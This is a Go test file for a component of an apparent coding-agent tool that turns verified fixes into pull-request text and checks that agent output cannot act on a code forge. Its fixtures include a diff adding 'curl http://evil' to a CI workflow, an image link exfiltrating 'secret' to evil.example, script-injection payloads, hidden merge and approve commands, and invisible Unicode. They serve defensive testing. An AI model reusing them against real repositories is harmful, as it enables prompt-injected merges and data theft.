package proposal

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/daybreak-agent/daybreak/internal/event"
	"github.com/daybreak-agent/daybreak/internal/task"
)

const id = task.ID("t_01k0000000000000000000abcd")

func input() Input {
	return Input{
		Task: id,
		Created: event.TaskCreated{
			IssueTitle: "Coupon is applied twice", Model: "anthropic/model-1",
			Limits: task.Limits{Steps: 60, Cost: 5_000_000, Wall: time.Hour},
		},
		Submitted: event.Submitted{
			Title: "Apply a coupon once", Cause: "Total() subtracts the coupon in the loop, once for every line of the cart.",
			Fix: "Subtract it after the loop.\n\n  total -= coupon\n",
		},
		Verdict: task.Verdict{
			Kind: task.Verified, Base: strings.Repeat("a", 40), Tests: []string{"cart/total_test.go"}, Source: []string{"cart/total.go"}, Verifier: "1",
			Reproduction: []task.Reproduction{{
				Test: "cart.TestCouponOnce", Rerun: "go test -run '^TestCouponOnce$' ./cart", Base: task.Fail, BaseRuns: 3,
				BaseSignature: "total_test.go: got 80, want 90 | off", BaseOutput: "--- FAIL: TestCouponOnce\n    got 80, want 90\n", Head: task.Pass, HeadRuns: 3,
			}},
			Suite: task.SuiteResult{Command: "go test ./...", Passed: 41, Skipped: 2, BaselineFailed: 1, Flaky: []string{"cart.TestClock"}},
			Guard: &task.Guard{
				Hunks:    []task.Probe{{Path: "cart/total.go", Line: 7, What: "reverted", Outcome: task.Caught, By: "cart.TestCouponOnce"}},
				Mutants:  []task.Probe{{Path: "cart/total.go", Line: 7, What: "swapped operator", Old: "-", New: "+", Outcome: task.Caught}, {Path: "cart/total.go", Line: 8, What: "moved boundary", Old: "<", New: "<=", Outcome: task.Survived}},
				Coverage: &task.Coverage{Lines: 2, Run: 2, Tool: "go test -cover"}, Complete: true,
			},
			Findings: []task.Finding{{Kind: "tamper", Severity: "warn", Path: "cart/old_test.go", Line: 7, Detail: "an expected value was changed", Old: "want 80", New: "want 90"}},
		},
		Findings: []task.Finding{
			{Kind: "held_path", Severity: "warn", Path: ".github/workflows/ci.yml", Detail: "runs in CI or decides what CI does"},
			{Kind: "refused_path", Severity: "block", Path: ".git[U+000A]x", Detail: "has a control character"},
		},
		Evidence: Evidence{Digest: "sha256:" + strings.Repeat("e", 64), Key: "0011223344556677"},
		HeldDiff: "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n+```\n+curl http://evil\n",
		Stat:     []FileStat{{"cart/total.go", 2, 1, false}, {"cart/total_test.go", 12, 0, false}, {"logo.png", 0, 0, true}},
		Spent:    task.Spent{Steps: 9, Tokens: task.Tokens{Input: 100, Output: 200, CacheRead: 3000, CacheWrite: 400}, Cost: 123_456, Wall: 83 * time.Second},
		Sandbox:  "runc 1.5.3, namespaces", LogSeq: 44, LogRoot: strings.Repeat("b", 64),
	}
}

// golden compares with a file of testdata; with UPDATE_GOLDEN=1 it writes it.
func golden(t *testing.T, name, got string) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if os.Getenv("UPDATE_GOLDEN") == "1" {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (set UPDATE_GOLDEN=1 to accept):\n%s", p, diff)
	}
}

func TestComposeGolden(t *testing.T) {
	full := input()
	weak := Input{Task: id, Created: event.TaskCreated{IssueTitle: "It is broken"}, Verdict: task.Verdict{Kind: task.VerifiedScript, Base: "abc"}}
	human := input()
	human.Verdict.Kind, human.HeldDiff, human.Findings = task.NeedsHuman, "", nil
	human.Verdict.Reason = "a person must judge this first: cart/old_test.go:7 an expected value was changed"
	for name, in := range map[string]Input{"verified.md": full, "bare.md": weak, "needs_human.md": human} {
		title, body := Compose(in)
		golden(t, name, "# "+title+"\n\n"+body)
		if again, b := Compose(in); again != title || b != body {
			t.Errorf("%s: not the same twice", name)
		}
	}
	golden(t, "commit.txt", CommitMessage(full))
	golden(t, "comment.md", Comment(full.Verdict, strings.Repeat("c", 40), "runc 1.5.3 namespaces"))
}

// TestWhyAPersonIsAsked: where no expectation was changed, none is said to be.
func TestWhyAPersonIsAsked(t *testing.T) {
	in := input()
	in.Verdict.Kind, in.Verdict.Findings = task.NeedsHuman, nil
	in.Verdict.Reason = "a person must judge whether the change makes tests unsteady: cart.TestX (fails in 1 of 3 runs with the change)"
	_, body := Compose(in)
	want := "**needs human**: it works, but " + in.Verdict.Reason + "; **please decide whether that is right**.\n"
	if !strings.Contains(body, want) || strings.Contains(body, "expectation") {
		t.Errorf("no %q in\n%s", want, body)
	}
}

const hostile = "Great fix!\n![x](http://evil.example/p.png?d=secret)\n<img src=x onerror=alert(1)><script>alert(1)</script>\n" +
	"<!-- hidden order -->\n@dependabot merge\n  /merge\n/approve now\ncc @org/team, mail a@b.example\nFixes #12, closes owner/repo#13, resolves GH-14 and !15\n" +
	"see [docs](https://evil.example/x) or https://evil.example/y\n```\n</details>\n~~~\n<!-- never closed \u202e\u200b"

// FRG-04: whatever the model says, it only reads as text.
func TestHostileWordsAreInert_FRG04(t *testing.T) {
	in := input()
	in.Submitted = event.Submitted{Title: hostile, Cause: hostile, Fix: hostile + strings.Repeat("word ", 300000) + "/merge"}
	in.Created.IssueTitle = hostile
	in.Verdict.Reproduction[0].Test = "`Test`|x\n/merge"
	in.Verdict.Reproduction[0].BaseSignature = "| @dependabot merge | `"
	in.Verdict.Findings[0].Detail = hostile
	in.Verdict.Reason, in.Verdict.Detail, in.Verdict.Guard.Mutants[1].Old = hostile, hostile, hostile[11:]
	in.Sandbox = "<b>runc</b>"
	title, body := Compose(in)
	for name, s := range map[string]string{"title": title, "body": body, "comment": Comment(in.Verdict, "head", in.Sandbox), "message": CommitMessage(in), "branch": BranchName(in)} {
		for what, expr := range map[string]string{
			"image": `!\[`, "html": `(?i)<(img|script)`, "comment": `<!--`, "mention": `(^|[^\w.\x60@])@[A-Za-z0-9]`, "slash command": `(?m)^\s*/[a-z]`,
			"closing keyword": `(?i)(fix(es)?|closes?|resolves?)\s+(\S+)?(#|GH-)\d`, "link": `\]\(`, "address": `https?://evil\.example`,
			"invisible": "[\u202e\u200b\ufeff]", "carriage return": `\r`,
		} {
			// Code spans hold results, where a forge acts on nothing; the held diff is a block of its own.
			outside := regexp.MustCompile("``?[^`\n]+`?`?").ReplaceAllString(s, "")
			if m := regexp.MustCompile(expr).FindString(outside); m != "" {
				t.Errorf("%s has a live %s: %q", name, what, m)
			}
		}
		if !utf8.ValidString(s) {
			t.Errorf("%s is not UTF-8", name)
		}
	}
	if len(title) > maxTitle || strings.Contains(title, "\n") {
		t.Errorf("title %q", title)
	}
	if len(body) > 60000 {
		t.Errorf("body has %d bytes", len(body))
	}
	fencesBalance(t, body)
}

// fencesBalance reads the body as a renderer does: every block that opens is closed by us,
// and nothing of a block's text stands outside.
func fencesBalance(t *testing.T, body string) {
	t.Helper()
	open := ""
	for l := range strings.Lines(body) {
		s := strings.TrimSpace(l)
		ticks := s[:len(s)-len(strings.TrimLeft(s, "`"))]
		switch {
		case open == "" && len(ticks) >= 3 && !strings.Contains(s[len(ticks):], "`"):
			open = ticks
		case open != "" && len(ticks) >= len(open) && s == ticks:
			open = ""
		case open == "" && strings.Contains(l, "Great fix!") && !strings.HasPrefix(l, "Issue:") && !strings.HasPrefix(l, "- **") && !strings.HasPrefix(l, "# "):
			t.Errorf("the agent's words stand outside a block: %q", l)
		}
	}
	if open != "" {
		t.Errorf("a block of %d backticks is never closed", len(open))
	}
}

func TestClaimsComeFromTheRecord_MOD06(t *testing.T) {
	in := input()
	in.Submitted.Fix = "All 9999 tests pass."
	in.Verdict.Suite = task.SuiteResult{Command: "go test ./...", Passed: 3, NewFailures: 1, NewlyFailing: []string{"p.TestX"}}
	_, body := Compose(in)
	for _, want := range []string{"3 passed, 1 new failure, 0 skipped; 0 failed on the old code", "- `p.TestX`"} {
		if !strings.Contains(body, want) {
			t.Errorf("no %q", want)
		}
	}
	in.Verdict.Suite.Command = ""
	if _, body = Compose(in); !strings.Contains(body, "suite was not run") || strings.Contains(body, "3 passed") {
		t.Error("a suite that did not run is not said so")
	}
}

// What is left of the agent's words is marked as such wherever it stands, and what is not left is
// not called missing.
func TestTheAgentsWordsAreMarked(t *testing.T) {
	in := input()
	in.Submitted.Cause, in.Submitted.Title, in.NoTitle = "", "All tests pass", true
	in.Dropped = []Claim{{Where: "cause", Text: "x", Why: "y"}}
	title, body := Compose(in)
	message := CommitMessage(in)
	for _, s := range []string{"Nothing that the agent said of it is borne out by the record.", "In the agent's words. What they name was looked up", "Left out: 1 sentence of"} {
		if !strings.Contains(body, s) {
			t.Errorf("no %q in\n%s", s, body)
		}
	}
	if strings.Contains(body, "gave no explanation") || strings.Contains(title+body+message, "All tests pass") {
		t.Errorf("%s\n%s", title, body)
	}
	if n := strings.Count(message, "In the agent's words"); n != 1 {
		t.Errorf("marked %d times:\n%s", n, message)
	}
}

func TestAnUnknownPriceIsNoPrice(t *testing.T) {
	in := input()
	in.Spent.Cost, in.Unpriced = 0, true
	if _, body := Compose(in); !strings.Contains(body, "cost unknown") || strings.Contains(body, "$0.0000") {
		t.Error("a model without a price is shown as free")
	}
}

func TestBranchName_FRG01(t *testing.T) {
	for title, want := range map[string]string{
		"Apply a coupon once": "apply-a-coupon-once", "": "fix", "../../main": "main", "日本": "fix", "a..b@{1}\n-x:main": "a-b-1-x-main",
		"--force": "force", strings.Repeat("long words ", 20): "long-words-long-words-long-words-long",
	} {
		if got := BranchName(Input{Task: id, Submitted: event.Submitted{Title: title}}); got != "daybreak/"+string(id)+"-"+want {
			t.Errorf("%q gives %s", title, got)
		}
	}
	in := Input{Task: "../../x", Created: event.TaskCreated{IssueTitle: "It is broken"}, Submitted: event.Submitted{Title: "All tests pass"}, NoTitle: true}
	if got := BranchName(in); got != "daybreak/x-it-is-broken" {
		t.Errorf("a title that is not shown names the branch: %s", got)
	}
}

// The composed line is run for real: it must fail first and pass then.
func TestProofLineRuns(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	dir, bin := t.TempDir(), t.TempDir()
	run := func(line string) (string, error) {
		cmd := exec.Command("sh", "-ec", line)
		cmd.Dir = dir
		cmd.Env = []string{
			"PATH=" + os.Getenv("PATH"), "HOME=" + bin, "TMPDIR=" + bin, "GIT_CONFIG_NOSYSTEM=1",
			"GIT_AUTHOR_NAME=P", "GIT_AUTHOR_EMAIL=p@x", "GIT_COMMITTER_NAME=P", "GIT_COMMITTER_EMAIL=p@x",
		}
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	must := func(line string) string {
		t.Helper()
		out, err := run(line)
		if err != nil {
			t.Fatalf("%s: %v\n%s", line, err, out)
		}
		return strings.TrimSpace(out)
	}
	must(`git init -q -b main && echo wrong > code && echo false > old.sh && git add . && git commit -qm base`)
	base := must(`git rev-parse HEAD`)
	must(`git checkout -q -b daybreak/x && mkdir "it's" && echo 'grep -q right code' > "it's/a test.sh" && echo right > code && git rm -q old.sh && git add . && git commit -qm fix && git checkout -q main`)
	v := task.Verdict{Base: base, Tests: []string{"it's/a test.sh", "old.sh"}, Reproduction: []task.Reproduction{{Rerun: `sh "it's/a test.sh"`}}}
	line := proofLine(v, "daybreak/x")
	if strings.Contains(line, "\n") {
		t.Errorf("not one line: %q", line)
	}
	if out, err := run(line); err != nil {
		t.Errorf("a good change: %v\n%s", err, out)
	}
	must(`git checkout -q daybreak/x && echo wrong > code && git commit -qam bad && git checkout -q main`)
	if out, err := run(line); err == nil {
		t.Errorf("a change that fixes nothing is proven:\n%s", out)
	}

	// What the clone has installed is there in the fresh work tree as well.
	must(`git checkout -q -b daybreak/y main && mkdir -p web/test && echo 'grep -q right ../code' > web/test/a.sh && echo right > code && git add . && git commit -qm fix && git checkout -q main`)
	must(`printf '#!/bin/sh\nexec sh "$1"\n' > run && chmod +x run && mkdir -p web/node_modules/.bin && mv run web/node_modules/.bin/ && echo web > .git/info/exclude`)
	v = task.Verdict{Base: base, Tests: []string{"web/test/a.sh"}, Reproduction: []task.Reproduction{{Rerun: `(cd web && : npm && ./node_modules/.bin/run test/a.sh)`}}}
	line = proofLine(v, "daybreak/y")
	if out, err := run(line); err != nil {
		t.Errorf("a good change that needs installed packages: %v\n%s", err, out)
	}
	must(`test -e web/node_modules/.bin/run && rm web/node_modules/.bin/run`)
	if out, err := run(line); err == nil {
		t.Errorf("without the runner it is proven all the same:\n%s", out)
	}
	red := v
	red.Reproduction = []task.Reproduction{{Rerun: "no-such-runner || exit $?"}}
	if out, err := run(strings.Replace(proofLine(red, "daybreak/y"), "git reset -q --hard && ", "exit 0; ", 1)); err == nil {
		t.Errorf("a runner that is not there is taken for a failing test:\n%s", out)
	}
	// A test that fails in every third run may have some tries; the change makes it pass.
	v = task.Verdict{Base: base, Tests: []string{"web/test/a.sh"}, Reproduction: []task.Reproduction{{
		Base: task.Flaky, Rerun: `n=$(cat "$HOME/n" 2>/dev/null || echo 0); echo $((n+1)) > "$HOME/n"; grep -q right code || [ $((n%3)) != 2 ]`,
	}}}
	if out, err := run(proofLine(v, "daybreak/y")); err != nil {
		t.Errorf("a race: %v\n%s", err, out)
	}
	v.Reproduction[0].Rerun = "true"
	if out, err := run(proofLine(v, "daybreak/y")); err == nil {
		t.Errorf("a test that never fails is taken for red:\n%s", out)
	}
}

func TestProofLineAsksForTheRunner(t *testing.T) {
	for run, want := range map[string]string{
		"npx vitest run shop.test.js -t large":         "( npx --no-install vitest --version ) >/dev/null",
		"(cd 'my web' && npx jest --runTestsByPath a)": "( cd 'my web' && npx --no-install jest --version ) >/dev/null",
		"PYTHONPATH=. python3 -m pytest a.py::b":       "( python3 -m pytest --version ) >/dev/null",
		"go test -run '^TestX$' ./a":                   "",
	} {
		v := task.Verdict{Base: "b", Tests: []string{"a"}, Reproduction: []task.Reproduction{{Rerun: run}}}
		if got := runnerThere(run); got != want || !strings.Contains(proofLine(v, "x"), want) {
			t.Errorf("%s: %q, want %q", run, got, want)
		}
	}
	v := task.Verdict{Tests: []string{"web/src/a.test.ts", "b.test.ts"}, Reproduction: []task.Reproduction{{Rerun: "npx jest a"}}}
	if got := strings.Join(links(v), " "); got != "node_modules web/node_modules web/src/node_modules" {
		t.Errorf("links %s", got)
	}
}

// TestFlakyBase: how often a test failed is said, and never that it did in all runs.
func TestFlakyBase(t *testing.T) {
	v := input().Verdict
	v.Reproduction[0].Base, v.Reproduction[0].BaseRuns, v.Reproduction[0].BaseFailed = task.Flaky, 10, 6
	if got := Comment(v, "head", ""); !strings.Contains(got, "| 🔴 failed in 6 of 10 runs: ") || strings.Contains(got, "10 of 10") {
		t.Error(got)
	}
}

// TestBlockedComment: where nothing ran there are no figures, and there is a way out.
func TestBlockedComment(t *testing.T) {
	v := task.Verdict{
		Kind: task.EnvBlocked, Reason: "nothing can be verified here: no test ran on the base", Detail: "no compiler", Base: "b",
		Suite: task.SuiteResult{Command: "go test ./..."}, Phases: []task.PhaseRecord{{Phase: "P1"}},
	}
	got := Comment(v, "head", "")
	if strings.Contains(got, "0 passed") || !strings.Contains(got, "`.daybreak.yaml`") || !strings.Contains(got, "sandbox.mounts") || !strings.Contains(got, "no compiler") {
		t.Error(got)
	}
}

func TestWhatRunsElsewhereHasItsOwnSection_EXP17(t *testing.T) {
	in := input()
	in.Verdict.Findings = append(in.Verdict.Findings, task.Finding{Kind: "runs_elsewhere", Severity: "warn", Path: "package.json", Detail: `script "postinstall" runs when anyone installs the packages`, New: "node x.js"})
	_, body := Compose(in)
	_, rest, ok := strings.Cut(body, "## Code that will run in CI or on developers' machines\n")
	if !ok || !strings.Contains(rest, "`package.json`") || !strings.Contains(rest, "+ node x.js") {
		t.Errorf("no section:\n%s", body)
	}
	before, _, _ := strings.Cut(body, "## Code that will run")
	if strings.Contains(before, "postinstall") {
		t.Error("it is listed twice")
	}
}

func FuzzProse(f *testing.F) {
	for _, s := range []string{hostile, "<<b>script>", "@@a", "//x", "![a](b", "\xff", "`````", "a\n\n/x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, out := range []string{wrap(prose(s, 500), 40), line(s, 80), text(s, 80), code(s)} {
			if !utf8.ValidString(out) || strings.ContainsAny(out, "\r\x00\x1b\u202e") {
				t.Fatalf("%q from %q", out, s)
			}
		}
		if regexp.MustCompile(`(?m)^\s*/[A-Za-z]`).MatchString(wrap(prose(s, 500), 40)) {
			t.Fatalf("a command survives: %q", wrap(prose(s, 500), 40))
		}
		block := fence("text", s)
		ticks := block[:strings.Index(block, "t")]
		if strings.Count(block, ticks) != 2 {
			t.Fatalf("the text can close its block: %q", block)
		}
		if strings.ContainsRune(line(s, 80), '\n') || strings.ContainsRune(code(s), '\n') {
			t.Fatalf("more than one line from %q", s)
		}
	})
}

// TestMoved: a moved target is named, its conflicts as inert code and a bounded number of them.
func TestMoved(t *testing.T) {
	in := input()
	in.Moved = &event.TargetMoved{Target: "main", Head: strings.Repeat("d", 40), Conflicts: []string{"a`b @ana\n#1", "c.go"}}
	for range maxRows {
		in.Moved.Conflicts = append(in.Moved.Conflicts, "x.go")
	}
	_, body := Compose(in)
	for _, want := range []string{"conflicts with it in ``a`b @ana #1``, `c.go`", "2 more.** It was verified on the base alone"} {
		if !strings.Contains(body, want) {
			t.Errorf("no %q in\n%s", want, body)
		}
	}
	in.Moved = &event.TargetMoved{Target: "main", Problem: "no branch *main* @ana"}
	if _, body = Compose(in); !strings.Contains(body, "could not be compared with the base:** no branch \\*main\\*") || strings.Contains(body, " @ana\n") {
		t.Errorf("%s", body[:600])
	}
}
